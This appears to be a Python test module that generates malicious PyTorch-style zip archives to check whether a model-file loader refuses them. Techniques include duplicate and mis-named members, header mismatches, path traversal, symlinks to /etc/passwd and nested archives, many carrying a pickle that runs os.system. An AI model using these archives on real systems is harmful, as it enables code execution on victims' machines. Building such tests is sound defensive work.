"""Archives of which two readers see two contents, or whose members have names and flags that mislead."""

import struct
import zipfile
import zlib

from malicious.base import INDEX, READS, REFUSES, ROOT, Attack, archive, beside, call

_LOCAL, _CENTRAL = b"PK\3\4", b"PK\1\2"


def _patched(data, signature, offset, value, which=0):
    """Return an archive with bytes changed in the header of its `which`-th member."""
    at = -1
    for _ in range(which + 1):
        at = data.index(signature, at + 1)
    return data[: at + offset] + value + data[at + offset + len(value) :]


def attacks(shell):
    """Return name -> attack, given the payload as a shell command pushed by an opcode."""
    run = call("os", "system", shell)
    evil = beside(run)
    good = archive(INDEX)
    hostile = b"\x80\x02" + run + b"."
    link = zipfile.ZipInfo(f"{ROOT}link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    raw = f"{ROOT}data.pkl".encode()
    # The directory says another pickle than the local header in front of it.
    shadowed = archive(INDEX, extra=[(zipfile.ZipInfo(f"{ROOT}data.pkx"), evil)])
    inner = archive(evil)
    other = zipfile.ZipInfo(f"{ROOT}other.zip")

    def spelled(name, outcome):
        return Attack(archive(INDEX, extra=[(zipfile.ZipInfo(name), hostile)]), outcome)

    def only(name):
        return Attack(archive(INDEX).replace(raw, name.encode().ljust(len(raw), b"_")[: len(raw)]), REFUSES)

    def duplicate(first, second):
        return archive(first, extra=[(zipfile.ZipInfo(f"{ROOT}data.pkl"), second)])

    start = good.index(_CENTRAL)
    return {
        "data.pkl twice, the second hostile": Attack(duplicate(INDEX, evil), REFUSES),
        "data.pkl twice, the first hostile": Attack(duplicate(evil, INDEX), REFUSES),
        "data.pkl under two roots": spelled("other/data.pkl", REFUSES),
        "local header of another name": Attack(archive(evil).replace(raw, f"{ROOT}data.pkx".encode(), 1), REFUSES),
        "local header of another name in a member nobody reads": Attack(
            shadowed.replace(f"{ROOT}data.pkx".encode(), raw, 1), READS
        ),
        "name in other case": spelled(f"{ROOT}DATA.PKL", REFUSES),
        "only name in other case": only(f"{ROOT}DATA.PKL"),
        "name with a backslash": spelled(f"{ROOT[:-1]}\\data.pkl", READS),
        "only name with a backslash": only(f"{ROOT[:-1]}\\data.pkl"),
        "name that begins with ./": spelled(f"./{ROOT}data.pkl", REFUSES),
        "name that climbs out": spelled("../data.pkl", REFUSES),
        "name with NUL behind it": Attack(
            archive(INDEX, extra=[(zipfile.ZipInfo(f"{ROOT}data.pkl#x"), evil)]).replace(b"data.pkl#x", b"data.pkl\0x"),
            REFUSES,
        ),
        "name of look-alike letters": spelled(f"{ROOT}d\u0430ta.pkl", READS),
        "name with an invisible sign": spelled(f"{ROOT}data\u200b.pkl", READS),
        "absolute name": spelled("/data.pkl", REFUSES),
        "symbolic link among the members": Attack(archive(INDEX, extra=[(link, b"/etc/passwd")]), READS),
        "data.pkl as a symbolic link": Attack(_patched(good, _CENTRAL, 38, struct.pack("<L", 0o120777 << 16)), READS),
        "encrypted by the directory only": Attack(_patched(archive(evil), _CENTRAL, 8, b"\1\0"), REFUSES),
        "encrypted by the local header only": Attack(_patched(archive(evil), _LOCAL, 6, b"\1\0"), REFUSES),
        "wrong checksum": Attack(
            _patched(_patched(archive(INDEX), _CENTRAL, 16, b"\1\2\3\4"), _LOCAL, 14, b"\1\2\3\4"), READS
        ),
        "wrong checksum in the directory only": Attack(_patched(archive(INDEX), _CENTRAL, 16, b"\1\2\3\4"), READS),
        "unknown compression by the directory": Attack(_patched(archive(evil), _CENTRAL, 10, b"\x63\0"), REFUSES),
        "size that differs between the headers": Attack(_patched(archive(evil), _LOCAL, 22, b"\1\0\0\0"), REFUSES),
        "signature of a local header destroyed": Attack(_patched(archive(evil), _LOCAL, 0, b"XX\3\4", 1), REFUSES),
        "second directory in front": Attack(
            good[:start] + archive(evil)[archive(evil).index(_CENTRAL) : -22] + good[start:], REFUSES
        ),
        "archive behind an archive": Attack(archive(evil) + good, REFUSES),
        "archive behind rubbish": Attack(b"\x80\x02N." + good, REFUSES),
        "archive in a comment": Attack(good[:-2] + struct.pack("<H", 22) + good[-22:], REFUSES),
        "nested archive, compressed": Attack(
            archive(INDEX, zipfile.ZIP_DEFLATED, extra=[(other, zlib.compress(inner))]), READS
        ),
        "nested archive": Attack(archive(INDEX, extra=[(other, inner)]), READS),
        "hostile pickle of another name": Attack(archive(INDEX, extra=[(f"{ROOT}code.pkl", hostile)]), READS),
        "hostile storage": Attack(archive(INDEX, extra=[(f"{ROOT}data/99", hostile)]), READS),
        "TorchScript code": Attack(archive(INDEX, extra=[(f"{ROOT}constants.pkl", hostile)]), REFUSES),
        "version code in place of the signature": Attack(b"06" + archive(INDEX)[2:], READS),
        "unknown code in place of the signature": Attack(b"\xb2\xb3" + archive(evil)[2:], REFUSES),
    }
